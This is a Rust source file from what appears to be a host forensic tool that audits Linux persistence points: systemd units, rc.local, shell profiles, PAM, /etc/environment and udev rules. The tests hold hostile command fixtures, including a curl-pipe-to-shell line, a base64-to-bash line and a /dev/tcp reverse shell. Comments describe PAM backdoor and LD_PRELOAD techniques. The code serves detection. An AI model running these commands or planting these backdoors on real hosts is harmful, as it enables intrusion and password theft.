        self.get(n..).unwrap_or_default()
    }
}

fn is_unit_name(n: &[u8]) -> bool {
    [&b".service"[..], b".timer", b".socket", b".path"]
        .iter()
        .any(|s| n.ends_with(s))
}

fn audit_systemd(root: &HostRoot, accounts: &Accounts, out: &mut Outcome) {
    let mut dirs: Vec<PathBuf> = UNIT_DIRS.iter().map(PathBuf::from).collect();
    for u in &accounts.users {
        if u.home.first() == Some(&b'/') && u.home.len() > 1 {
            let mut d = u.home.clone();
            d.extend_from_slice(b"/.config/systemd/user");
            let d = PathBuf::from(std::ffi::OsStr::from_bytes(&d));
            if !dirs.contains(&d) {
                dirs.push(d);
            }
        }
    }
    for d in dirs {
        let entries = match root.read_dir(&d) {
            Ok(e) => e,
            Err(e) if e.is_not_found() => continue,
            Err(e) => {
                out.errors.push(crate::util::skipped(&e));
                continue;
            }
        };
        for e in entries {
            let name = e.name.as_bytes();
            let p = d.join(&e.name);
            if e.kind == Some(FileKind::Symlink) {
                continue; // aliases, enablement and masks; targets are scanned in their own dir
            }
            if name.ends_with(b".d") && e.kind != Some(FileKind::Regular) {
                // Drop-ins.
                if let Ok(sub) = root.read_dir(&p) {
                    for s in sub {
                        if s.name.as_bytes().ends_with(b".conf")
                            && s.kind != Some(FileKind::Symlink)
                        {
                            let sp = p.join(&s.name);
                            if let Some(buf) = read_config(root, &sp, out) {
                                scan_unit(root, &sp, &buf, out);
                            }
                        }
                    }
                }
                continue;
            }
            if !is_unit_name(name) {
                continue;
            }
            if let Some(buf) = read_config(root, &p, out) {
                scan_unit(root, &p, &buf, out);
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// rc.local and shell profiles.

fn audit_rc_local(root: &HostRoot, out: &mut Outcome) {
    for p in ["/etc/rc.local", "/etc/rc.d/rc.local"] {
        let p = Path::new(p);
        let Some(buf) = read_config(root, p, out) else {
            continue;
        };
        let cmds: Vec<(u64, &[u8])> = buf
            .split(|&c| c == b'\n')
            .enumerate()
            .map(|(i, l)| (i as u64 + 1, l.trim_ascii()))
            .filter(|(_, l)| !l.is_empty() && l.first() != Some(&b'#') && *l != b"exit 0")
            .collect();
        if cmds.is_empty() {
            continue;
        }
        let hits = scan_script(&buf);
        let sev = if hits.is_empty() {
            Severity::Medium
        } else {
            Severity::High
        };
        let mut f = Finding::new("persistence.rc-local", sev, "rc.local runs commands at boot", pb(p))
            .with_detail(format!(
                "{} command line(s) run as root at every boot{}. rc.local is rarely used on systemd hosts and a common place for attacker start-up commands.",
                cmds.len(),
                if hits.is_empty() { "" } else { ", including downloads/decoding/temp-dir programs" }
            ))
            .with_remediation("Review every line; move legitimate commands to a systemd unit and empty rc.local.")
            .with_attack("T1037.004")
            .with_reference("MITRE ATT&CK T1037.004 Boot or Logon Initialization Scripts: RC Scripts");
        for (l, c) in cmds.iter().take(20) {
            f = f.with_evidence(Evidence::line(pb(p), *l).with_excerpt(c));
        }
        out.findings.push(f);
    }
}

const SYSTEM_PROFILES: &[&str] = &[
    "/etc/profile",
    "/etc/bash.bashrc",
    "/etc/bashrc",
    "/etc/zsh/zshrc",
    "/etc/zsh/zprofile",
    "/etc/zshrc",
    "/etc/bash.bash_logout",
];
const USER_PROFILES: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".profile",
    ".bash_logout",
    ".zshrc",
    ".zprofile",
    ".zlogin",
];

fn audit_profiles(root: &HostRoot, accounts: &Accounts, out: &mut Outcome) {
    let mut files: Vec<PathBuf> = SYSTEM_PROFILES.iter().map(PathBuf::from).collect();
    files.extend(
        list_dir(root, "/etc/profile.d", out)
            .into_iter()
            .filter(|p| {
                p.extension()
                    .is_some_and(|e| e == "sh" || e == "zsh" || e == "csh")
            }),
    );
    let mut homes: Vec<&[u8]> = Vec::new();
    for u in &accounts.users {
        if u.home.first() == Some(&b'/') && u.home.len() > 1 && !homes.contains(&u.home.as_slice())
        {
            homes.push(&u.home);
        }
    }
    for h in homes {
        for f in USER_PROFILES {
            let mut p = h.to_vec();
            p.push(b'/');
            p.extend_from_slice(f.as_bytes());
            files.push(PathBuf::from(std::ffi::OsStr::from_bytes(&p)));
        }
    }
    for f in files {
        let Some(buf) = read_config(root, &f, out) else {
            continue;
        };
        if ferret_core::rdb::is_rdb(&buf) {
            let entries: Vec<String> = scan_script(&buf)
                .iter()
                .map(|h| ferret_core::escape::escape(&h.command))
                .collect();
            out.findings
                .push(rdb_finding(&f, &buf, RdbAs::Profile, &entries));
        }
        hooks::alias_findings(&f, &buf, out);
        for h in scan_script(&buf) {
            if !(h.what.contains(&Suspicion::DownloadExec) || h.what.contains(&Suspicion::Base64)) {
                continue;
            }
            out.findings.push(
                Finding::new("persistence.profile-download-exec", Severity::High, "shell start-up file fetches/decodes and runs code", pb(&f))
                    .with_evidence(Evidence::line(pb(&f), h.line).with_excerpt(&h.command))
                    .with_detail("Shell profiles run at every login; a download piped to a shell (or a decoded payload) there re-infects the host whenever someone logs in.")
                    .with_remediation("Preserve the file, remove the line, and find what it fetched.")
                    .with_attack("T1546.004")
                    .with_reference("MITRE ATT&CK T1546.004 Unix Shell Configuration Modification"),
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// PAM, /etc/environment, udev rules.

/// Directories PAM loads modules named without a path from (and where packaged modules live).
const PAM_MODULE_DIRS: &[&[u8]] = &[
    b"/lib/security/",
    b"/lib64/security/",
    b"/usr/lib/security/",
    b"/usr/lib64/security/",
    b"/lib/x86_64-linux-gnu/security/",
    b"/usr/lib/x86_64-linux-gnu/security/",
    b"/lib/aarch64-linux-gnu/security/",
    b"/usr/lib/aarch64-linux-gnu/security/",
];

/// One PAM rule: type (without a leading `-`), control, module, arguments.
pub(crate) type PamRule<'a> = (&'a [u8], &'a [u8], &'a [u8], Vec<&'a [u8]>);

/// One PAM rule `[-]type control module [args]` (`control` may be a `[...]` list).
pub(crate) fn pam_rule(line: &[u8]) -> Option<PamRule<'_>> {
    let t = line.trim_ascii();
    if t.is_empty() || t.first() == Some(&b'#') || t.first() == Some(&b'@') {
        return None;
    }
    let (ty, rest) = split_word(t);
    let rest = rest.trim_ascii_start();
    let (control, rest) = if rest.first() == Some(&b'[') {
        let end = rest.iter().position(|&c| c == b']')?;
        (rest.get(..=end)?, rest.get(end + 1..)?)
    } else {
        split_word(rest)
    };
    let (module, rest) = split_word(rest.trim_ascii_start());
    let args = rest
        .split(u8::is_ascii_whitespace)
        .filter(|a| !a.is_empty())
        .collect();
    (!module.is_empty()).then_some((ty.strip_prefix(b"-").unwrap_or(ty), control, module, args))
}

fn split_word(s: &[u8]) -> (&[u8], &[u8]) {
    let end = s
        .iter()
        .position(u8::is_ascii_whitespace)
        .unwrap_or(s.len());
    (
        s.get(..end).unwrap_or_default(),
        s.get(end..).unwrap_or_default(),
    )
}

/// PAM backdoors: `auth sufficient pam_permit.so` (any password opens the service),
/// `pam_exec.so expose_authtok` (every password typed is handed to a program: a credential
/// logger) and modules loaded by absolute path from outside the module directories (a
/// trojaned `pam_unix.so` dropped elsewhere). T1556.003.
fn audit_pam(root: &HostRoot, out: &mut Outcome) {
    let mut files = list_dir(root, "/etc/pam.d", out);
    files.sort();
    files.push(PathBuf::from("/etc/pam.conf"));
    for f in files {
        if root.lstat(&f).is_ok_and(|s| s.kind != FileKind::Regular) {
            continue;
        }
        let Some(buf) = read_config(root, &f, out) else {
            continue;
        };
        let pam_conf = f == Path::new("/etc/pam.conf");
        for (i, l) in buf.split(|&c| c == b'\n').enumerate() {
            // pam.conf has the service name first.
            let l = if pam_conf {
                split_word(l.trim_ascii()).1
            } else {
                l
            };
            let Some((ty, control, module, args)) = pam_rule(l) else {
                continue;
            };
            let name = module.rsplit(|&c| c == b'/').next().unwrap_or(module);
            let ev = Evidence::line(pb(&f), i as u64 + 1).with_excerpt(l.trim_ascii());
            let grants = control == b"sufficient"
                || (control.starts_with(b"[") && contains(control, b"success=done"));
            let (id, sev, title, why) = if ty == b"auth" && grants && name == b"pam_permit.so" {
                (
                    "persistence.pam-permit",
                    Severity::Critical,
                    "PAM accepts any password",
                    "`auth sufficient pam_permit.so` ends authentication with success before any password is checked: every account opens with any password (or none).",
                )
            } else if name == b"pam_exec.so" && args.iter().any(|a| *a == b"expose_authtok") {
                (
                    "persistence.pam-exec-authtok",
                    Severity::High,
                    "PAM hands every password typed to a program",
                    "pam_exec with expose_authtok gives the program the password on its standard input: the usual PAM credential logger.",
                )
            } else if module.first() == Some(&b'/')
                && !PAM_MODULE_DIRS.iter().any(|d| module.starts_with(d))
            {
                (
                    "persistence.pam-module-path",
                    Severity::High,
                    "PAM loads a module from outside the module directories",
                    "Packaged PAM modules live in the security module directory and are named without a path; a module loaded from elsewhere is a planted one (a trojaned pam_unix that accepts a master password or logs them).",
                )
            } else {
                continue;
            };
            out.findings.push(
                Finding::new(id, sev, title, pb(&f))
                    .with_evidence(ev)
                    .with_detail(why)
                    .with_remediation("Preserve the file and the module or program it names, restore the distribution's PAM configuration, and treat every password used on this host as stolen.")
                    .with_attack("T1556.003")
                    .with_reference("MITRE ATT&CK T1556.003 Modify Authentication Process: Pluggable Authentication Modules"),
            );
        }
    }
}

fn contains(h: &[u8], n: &[u8]) -> bool {
    h.windows(n.len()).any(|w| w == n)
}

/// `LD_PRELOAD=` in `/etc/environment`: pam_env puts it in every login session's environment,
/// a preload rootkit's way in without `/etc/ld.so.preload`.
fn audit_environment(root: &HostRoot, out: &mut Outcome) {
    let p = Path::new("/etc/environment");
    let Some(buf) = read_config(root, p, out) else {
        return;
    };
    for (i, l) in buf.split(|&c| c == b'\n').enumerate() {
        let t = l.trim_ascii();
        let t = t.strip_prefix(b"export ").unwrap_or(t).trim_ascii_start();
        if !(t.starts_with(b"LD_PRELOAD=") || t.starts_with(b"LD_LIBRARY_PATH=")) {
            continue;
        }
        out.findings.push(
            Finding::new(
                "persistence.environment-preload",
                Severity::High,
                "/etc/environment preloads libraries into every login session",
                pb(p),
            )
            .with_evidence(Evidence::line(pb(p), i as u64 + 1).with_excerpt(t))
            .with_detail("pam_env copies /etc/environment into every session: an LD_PRELOAD (or LD_LIBRARY_PATH) there loads the library into every program users and services start, like /etc/ld.so.preload.")
            .with_remediation("Preserve the file and the library it names, then remove the line.")
            .with_attack("T1574.006")
            .with_reference("MITRE ATT&CK T1574.006 Hijack Execution Flow: Dynamic Linker Hijacking"),
        );
    }
}

/// udev rules whose `RUN+=`/`PROGRAM=` command downloads and runs code, decodes a payload or
/// runs a program from a temporary directory: udevd runs it as root at every matching device
/// event (T1546.017).
fn audit_udev(root: &HostRoot, out: &mut Outcome) {
    for dir in [
        "/etc/udev/rules.d",
        "/lib/udev/rules.d",
        "/usr/lib/udev/rules.d",
        "/run/udev/rules.d",
    ] {
        let mut files = list_dir(root, dir, out);
        files.sort();
        for f in files {
            if f.extension().is_none_or(|e| e != "rules") {
                continue;
            }
            let Some(buf) = read_config(root, &f, out) else {
                continue;
            };
            for (i, l) in buf.split(|&c| c == b'\n').enumerate() {
                let t = l.trim_ascii();
                if t.first() == Some(&b'#') {
                    continue;
                }
                for cmd in udev_commands(t) {
                    let what = suspicions(&cmd);
                    if what.is_empty() {
                        continue;
                    }
                    out.findings.push(
                        Finding::new(
                            "persistence.udev-run",
                            Severity::High,
                            "udev rule runs a downloaded, decoded or temporary program",
                            pb(&f),
                        )
                        .with_evidence(Evidence::line(pb(&f), i as u64 + 1).with_excerpt(t))
                        .with_detail("udevd runs RUN+= and PROGRAM= commands as root whenever a matching device event fires (at boot, on every network or disk event).")
                        .with_remediation("Preserve the rule and the payload, then remove the rule.")
                        .with_attack("T1546.017")
                        .with_reference("MITRE ATT&CK T1546.017 Event Triggered Execution: Udev Rules"),
                    );
                }
            }
        }
    }
}

/// The commands of `RUN+="..."`, `RUN="..."` and `PROGRAM="..."` keys of one rule line.
pub(crate) fn udev_commands(line: &[u8]) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    let mut rest = line;
    while let Some(at) = rest.iter().position(|&c| c == b'"') {
        let key = rest.get(..at).unwrap_or_default();
        let key = key
            .trim_ascii_end()
            .strip_suffix(b"=")
            .map(|k| k.strip_suffix(b"+").unwrap_or(k))
            .unwrap_or_default();
        let key = key
            .rsplit(|&c| c == b',' || c.is_ascii_whitespace())
            .next()
            .unwrap_or_default();
        let after = rest.get(at + 1..).unwrap_or_default();
        let end = after.iter().position(|&c| c == b'"').unwrap_or(after.len());
        let value = after.get(..end).unwrap_or_default();
        let key = key.split(|&c| c == b'{').next().unwrap_or_default();
        if key == b"RUN" || key == b"PROGRAM" || key == b"IMPORT" {
            out.push(value.to_vec());
        }
        rest = after.get(end + 1..).unwrap_or_default();
    }
    out
}

/// Runs every persistence check on `root`. Cancelling `control` stops it between the
/// checks (preload, cron and at jobs, authorized_keys, systemd, rc.local, profiles, PAM,
/// /etc/environment, udev rules, each hook place, Python start-up hooks, initramfs modules,
/// maintainer scripts, git hooks) and inside the long ones (the maintainer scripts, the git
/// repository search), with a "cancelled" error beside what was found.
pub fn audit_root(root: &HostRoot, control: &Control) -> Outcome {
    let mut out = Outcome::new();
    if crate::util::cancelled(control, &mut out) {
        return out;
    }
    let (accounts, errs) = Accounts::load(root);
    out.errors.extend(errs);
    audit_preload(root, &mut out);
    if crate::util::cancelled(control, &mut out) {
        return out;
    }
    audit_cron(root, &mut out, control);
    if crate::util::cancelled(control, &mut out) {
        return out;
    }
    audit_authorized_keys(root, &accounts, control, &mut out);
    if crate::util::cancelled(control, &mut out) {
        return out;
    }
    audit_systemd(root, &accounts, &mut out);
    if crate::util::cancelled(control, &mut out) {
        return out;
    }
    audit_rc_local(root, &mut out);
    audit_profiles(root, &accounts, &mut out);
    audit_pam(root, &mut out);
    audit_environment(root, &mut out);
    audit_udev(root, &mut out);
    hooks::audit(root, &accounts, control, &mut out);
    if crate::util::cancelled(control, &mut out) {
        return out;
    }
    startup::audit(root, &accounts, control, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classifies() {
        assert_eq!(
            suspicions(b"curl -fsSL http://x/y.sh | sh"),
            vec![Suspicion::DownloadExec]
        );
        assert!(suspicions(b"echo aGk= | base64 -d | bash").contains(&Suspicion::Base64));
        assert_eq!(
            suspicions(b"/tmp/.x/kworker >/dev/null 2>&1"),
            vec![Suspicion::TempPath]
        );
        assert_eq!(
            suspicions(b"cd / && run-parts --report /etc/cron.daily"),
            vec![]
        );
        assert_eq!(suspicions(b"find /tmp -type f -mtime +7 -delete"), vec![]);
        assert!(
            suspicions(b"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1").contains(&Suspicion::DownloadExec)
        );
    }

    #[test]
    fn crontab_fields() {
        let (h, bad) = scan_crontab(
            b"SHELL=/bin/sh\n*/5 * * * * root curl -s http://e/x | sh\n@reboot root /dev/shm/x\n* * *\n",
            CrontabKind::System,
        );
        assert_eq!(h.len(), 2);
        assert_eq!(h[0].line, 2);
        assert_eq!(bad, vec![4]);
    }

    #[test]
    fn keys_never_keep_material() {
        let line = b"command=\"/bin/echo hi, there\",from=\"10.0.0.0/8\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl user@host\n";
        let k = parse_authorized_keys(line).remove(0).unwrap();
        assert_eq!(k.option("command"), Some(Some(&b"/bin/echo hi, there"[..])));
        assert!(k.option("from").is_some());
        assert!(!k.describe().contains("AAAAC3"));
        assert!(k.fingerprint.as_deref().unwrap().starts_with("SHA256:"));
    }
}
